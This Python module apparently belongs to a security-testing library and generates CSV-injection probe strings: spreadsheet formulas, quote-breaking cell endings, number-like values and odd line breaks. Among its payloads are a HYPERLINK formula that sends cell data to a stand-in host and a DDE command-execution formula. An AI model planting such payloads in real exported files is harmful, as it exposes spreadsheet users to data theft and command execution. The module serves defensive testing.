"""Texts that a spreadsheet takes for formulas when they stand in a cell of a CSV file, or that make other cells."""

from __future__ import annotations

from collections.abc import Iterator

from probes.grammars import evasions
from probes.grammars.ranked import in_turn, ranked

_SIGNS = (("=", "@"), ("+", "-"))
#: What may stand before the sign, and a careless look does not step over.
_BEFORE = (("", " ", "\t", "\n"), ("\r", "\r\n", "  ", " \t ", "\n\n", "\n \t"))
_BODIES = (
    ("1+1", 'HYPERLINK("http://x.example/?"&A1,"lid")'),
    ("1", "SUM(A1:A9)", "cmd|' /C calc'!A1", "A1", "-1", "x", "1*2-3", "(1)", ""),
)
#: Numbers, and what begins like one.
_LIKE_NUMBERS = (
    *("-1+1", "+1-A1", "-1.5*2", "-1,5+A1", "- 1", "-1 +1", "-1\n+1", "-1;A1", "+49 30 1234"),
    *("-A1", "-1E5+A1", "-1.5.2"),
    *("-\uff11+1", "-1%+A1", "--1", "+-1", "-1=1", "-1e", "-inf", "-0x1", "-1_0+1"),
)
#: What ends a cell, or a row, where quotes are not what they should be.
_ENDS = (
    *("{},", '{}",', "{}\n", "{}\r\n", "{}\r", '{}"\n', '{}"\r\n', '{}""\n'),
    *('",', "\n", '{}\\",', "{},,,", '{}",",', '",\n"'),
)
#: What Python's `splitlines` takes for the end of a line, and no spreadsheet does.
BREAKS = ("\u2028", "\x0b", "\x85", "\x0c", "\x1c", "\u2029")


def texts(ordinary: str) -> Iterator[str]:
    """Texts for a cell, around one that is usual there."""
    formulas = [before + sign + body for before, sign, body in ranked(_BEFORE, _SIGNS, _BODIES)]
    yield from in_turn(
        formulas,
        (f"{end.format(ordinary)}=1+1{rest}" for rest in ("", ',"', '"', f",{ordinary}", "\n") for end in _ENDS),
        _LIKE_NUMBERS,
        (other for text in ("=1+1", "+A1", "@A1") for other in evasions.evading(text)),
        (f"{sign}{text}" for text in ("=1+1", "@A1") for sign in ('"', "''", "=", "@", "'\n", "\0")),
        (f"{start}1{'+1' * length}" for length in evasions.lengths()[-2:] for start in ("=", "@A")),
    )


def pairs() -> Iterator[tuple[str, str]]:
    """Texts of two cells, one beside the other, that make a formula together where their quotes are not doubled."""
    for first in ('"', 'x"', "x\\", '\\"', "\n", '"\n', "x\n"):
        for second in ("=1+1", ",=1+1", "\n=1+1", ',"=1+1"', '"\n=1+1,"', "+A1"):
            yield first, second
